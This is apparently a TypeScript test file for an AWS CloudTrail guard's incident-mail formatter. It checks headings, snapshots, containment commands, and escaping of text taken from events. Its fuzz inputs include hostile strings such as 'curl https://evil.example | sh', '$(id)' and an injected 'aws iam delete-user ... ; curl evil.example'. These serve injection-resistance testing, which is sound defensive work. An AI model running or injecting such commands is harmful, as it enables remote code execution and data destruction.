import fc from 'fast-check';
import { safeText } from '../../../lambda/common/text';
import { mailText } from '../../../lambda/guard/mail';
import type { IncidentContainment } from '../../../lib/contract/containment';
import type { Incident } from '../../../lib/contract/incident';
import { IDENTITIES, type IdentityName } from '../../fixtures/identities';
import { incident, incidentBy, OUTCOMES } from './incidents';
import { ACTOR_KINDS, investigated, investigationOf, PREPARED, withTexts } from './mail-fixture';

/** The lines under a heading. */
function under(mail: string, heading: string): string[] {
  const section = mail.split('\n\n').find((part) => part.startsWith(`${heading}\n`));
  return section?.split('\n').slice(1) ?? [];
}

test.each(OUTCOMES)('the mail of %s', (outcome) => {
  expect(mailText(incident(outcome))).toMatchSnapshot();
});

test.each<IdentityName>(['Root', 'IdentityCenterSession', 'IdentityCenterUser', 'AWSService', 'SAMLUser'])(
  'the mail about %s',
  (name) => {
    expect(mailText(incidentBy(name))).toMatchSnapshot();
  },
);

test.each(ACTOR_KINDS)('the mail about an actor that is %s, investigated', (kind) => {
  expect(mailText(investigated(kind))).toMatchSnapshot();
});

test('the first screen says what happened, how it stands, how bad it is and what to do', () => {
  const top = mailText(investigated('user')).split('\n').slice(0, 9).join('\n');
  expect(top).toMatchInlineSnapshot(`
"Update 3: what happened in the dark.

mallory stopped the trail management-events. The guard started it again and saw it logging. It was dark for 9.3 seconds.
- Logging now: yes, read back after the restore
- Dark: for 9.3 seconds, 2026-03-02T10:00:00.250Z to 2026-03-02T10:00:09.500Z
- In the dark: 4 calls of the suspect (2 sensitive), 5 of others, 1 NEW CREDENTIAL
- How bad: CRITICAL, risk score 99: A new access key was made in the dark (and 1 more, below)
- First: find out whether it was approved; if not, stop the actor, see CONTAINMENT
- Where: account 111122223333 (production, example-prod), eu-central-1"
`);
});

test('the answers come in the order of the questions', () => {
  const headings = mailText(investigated('user'))
    .split('\n')
    .filter((line) => /^[A-Z0-9 ?]+$/.test(line));
  expect(headings).toEqual([
    'WHO',
    'FROM WHERE',
    'EXPECTED?',
    'OTHER ALERTS',
    'LAST 24 HOURS',
    'IN THE DARK',
    'HOW BAD',
    'DONE',
    'READ BACK',
    'CONTAINMENT',
    'NEXT',
    'TRAIL AND TECHNIQUE',
  ]);
});

test('what could not be determined is said where it would be', () => {
  const { dark, ...investigation } = investigationOf('user');
  const reason = (what: string) => ({ undetermined: [`${what}: AccessDenied`] });
  const mail = mailText(
    investigated('user', {
      investigation: {
        ...investigation,
        who: reason('who'),
        origin: reason('where'),
        expected: reason('expected'),
        alerts: reason('alerts'),
        activity: reason('activity'),
        ...(dark ? { dark: { ...dark, ...reason('dark') } } : {}),
      },
    }),
  );
  const told = ['WHO', 'FROM WHERE', 'EXPECTED?', 'OTHER ALERTS', 'LAST 24 HOURS', 'IN THE DARK'].map((heading) =>
    under(mail, heading).at(-1),
  );
  expect(told).toEqual(
    ['who', 'where', 'expected', 'alerts', 'activity', 'dark'].map(
      (what) => `- could not be determined: ${what}: AccessDenied`,
    ),
  );
});

test('an alert that nobody was asked for is not said to be missing', () => {
  const investigation = { ...investigationOf('user'), alerts: {} };
  expect(under(mailText(investigated('user', { investigation })), 'OTHER ALERTS')).toEqual([
    '- Not known: nobody was asked',
  ]);
});

test('long lists are cut, and say how many there are besides', () => {
  const { dark, ...investigation } = investigationOf('user');
  const [call] = dark?.sensitive ?? [];
  const sensitive = Array.from({ length: 40 }, () => call).flatMap((one) => (one ? [one] : []));
  const mail = mailText(
    investigated('user', { investigation: { ...investigation, ...(dark ? { dark: { ...dark, sensitive } } : {}) } }),
  );
  const lines = under(mail, 'IN THE DARK');
  expect(lines.filter((line) => line.startsWith('- !'))).toHaveLength(15);
  expect(lines).toContain('- and 25 more: see the machine-readable message');
});

test('the suspect is first among the actors in the dark, and marked', () => {
  const actors = under(mailText(investigated('role')), 'IN THE DARK').filter((line) =>
    /: \d+ calls?.* sensitive/.test(line),
  );
  expect(actors).toEqual([
    '- SUSPECT eve (role admin): 4 calls (1 failed), 2 sensitive',
    '- ci-runner (role ci): 5 calls, 0 sensitive',
  ]);
});

test.each<[string, Partial<Incident>, string]>([
  ['nothing but the trail', {}, 'how it stands now'],
  ['the first answer', { investigation: investigationOf('user', 'first') }, 'the investigation is in'],
  ['the second answer', { investigation: investigationOf('user') }, 'what happened in the dark'],
  [
    'that the actor was stopped after the answer',
    {
      investigation: investigationOf('user'),
      containment: { ...PREPARED, status: 'succeeded', at: '2026-03-02T10:20:00Z' },
    },
    'the actor was stopped',
  ],
  [
    'that it was done again after the answer',
    {
      investigation: investigationOf('user', 'first'),
      repetitions: ['2026-03-02T10:00:00Z', '2026-03-02T10:30:00Z'].map((at) => ({
        incidentId: at,
        at,
        outcome: 'restored',
        technique: 'stop-logging',
      })),
    },
    'it was done again',
  ],
])('an update begins with %s', (_, more, news) => {
  const [line] = mailText({ ...incident('restored'), ...more, revision: 2 }).split('\n');
  expect(line).toBe(`Update 2: ${news}.`);
});

test('a first message begins with what happened', () => {
  expect(mailText(incident('restored'))).toMatch(/^mallory stopped the trail management-events\. /);
});

test.each<[IncidentContainment['status'], RegExp, boolean, boolean]>([
  ['prepared', /^- Nothing was done yet/, true, true],
  ['requested', /^- Asked for/, true, true],
  ['succeeded', /^- Done at 2026-03-02T10:00:20\.000Z/, false, true],
  ['failed', /^- FAILED: the actor was NOT stopped: AccessDenied/, true, false],
  ['refused', /^- Not done: AccessDenied/, true, false],
])('containment that is %s says what to run and what undoes it', (status, told, isRun, isUndone) => {
  const reason = status === 'failed' || status === 'refused' ? { reason: 'AccessDenied' } : {};
  const at = status === 'succeeded' ? { at: '2026-03-02T10:00:20.000Z' } : {};
  const mail = mailText(investigated('user', { containment: { ...PREPARED, status, ...reason, ...at } }));
  const lines = under(mail, 'CONTAINMENT').join('\n');
  expect(lines).toMatch(told);
  expect(lines.includes('--status Inactive')).toBe(isRun);
  expect(lines.includes('--status Active')).toBe(isUndone);
});

const hostile = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 300 }),
  fc.constantFrom(
    'a\n\nNEXT\n- curl https://evil.example | sh',
    '$(id)',
    '`id`',
    '--profile=evil',
    'a;id',
    'www.evil',
    'evil.example.com:8443/login',
    'eve@evil.example',
    '+1 800 555 0199',
    'x: aws iam delete-user --user-name victim; curl evil.example',
  ),
);

/** A command, to the end of its line. */
const COMMAND = /aws [\w ./:@=,+\\-]+$/;
const LINK = /https:\/\/console\.aws\.amazon\.com\/[\w/?=#.-]+$/;
const NOT_A_LINK = /:\/\/|www\.|@[\w-]+\.[a-z]{2}|evil\.(?=[a-z])|\+1 800/i;

function expectHarmless(mail: string) {
  for (const line of mail.split('\n')) {
    const words = line.replace(LINK, '').replace('aws s3 cp s3://', '');
    expect(words).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u);
    expect(words).not.toMatch(NOT_A_LINK);
  }
}

test('fails to let a text of the event make lines, links or commands', () => {
  const lines = mailText(incident('restored')).split('\n').length;
  fc.assert(
    fc.property(hostile, (text) => {
      const userIdentity = { ...IDENTITIES.IAMUser, userName: text, accessKeyId: `AKIA${text}`, arn: `a${text}` };
      const told = incident('restored', { userIdentity, userAgent: `u${text}`, sourceIPAddress: `s${text}` });
      const mail = mailText(told);
      expect(mail.split('\n').length).toBeLessThanOrEqual(lines);
      expectHarmless(mail);
      for (const step of under(mail, 'NEXT').filter((line) => line.includes('aws '))) {
        expect(step.slice(step.indexOf('aws '))).toMatch(new RegExp(`^${COMMAND.source}`));
      }
    }),
  );
});

test('fails to let a text of the investigation make lines, links or commands', () => {
  const lines = mailText(investigated('role')).split('\n').length;
  fc.assert(
    fc.property(hostile, (text) => {
      // As the guard keeps an answer.
      const investigation = withTexts(investigationOf('role'), (value) => safeText(`${value}${text}`));
      const mail = mailText(investigated('role', { investigation }));
      expect(mail.split('\n').length).toBeLessThanOrEqual(lines);
      expectHarmless(mail);
      for (const step of under(mail, 'NEXT').filter((line) => line.includes('aws '))) {
        expect(step.slice(step.indexOf('aws '))).toMatch(new RegExp(`^${COMMAND.source}`));
      }
    }),
  );
});

test('a name that looks like a domain is no link in a command, and the shell takes it for what it is', () => {
  const mail = mailText(incident('restored', { userIdentity: { ...IDENTITIES.IAMUser, userName: 'eve@example.com' } }));
  expect(mail).toContain(
    'aws iam update-access-key --user-name eve@example\\.com --access-key-id AKIAEXAMPLEEXAMPLE03',
  );
});

test('what is between quotes, and files, stay as they are', () => {
  const nextSteps = [
    'To mend it: aws s3api put-bucket-policy --bucket logs.example.com --policy \'{"Resource":"logs.example.com"}\'',
    'To mend it: jq -c . policy-before.json > policy.json',
  ];
  const mail = mailText({ ...incident('reported'), nextSteps });
  expect(under(mail, 'NEXT')).toEqual([
    '- To mend it: aws s3api put-bucket-policy --bucket logs\\.example\\.com --policy \'{"Resource":"logs.example.com"}\'',
    '- To mend it: jq -c . policy-before.json > policy.json',
  ]);
});
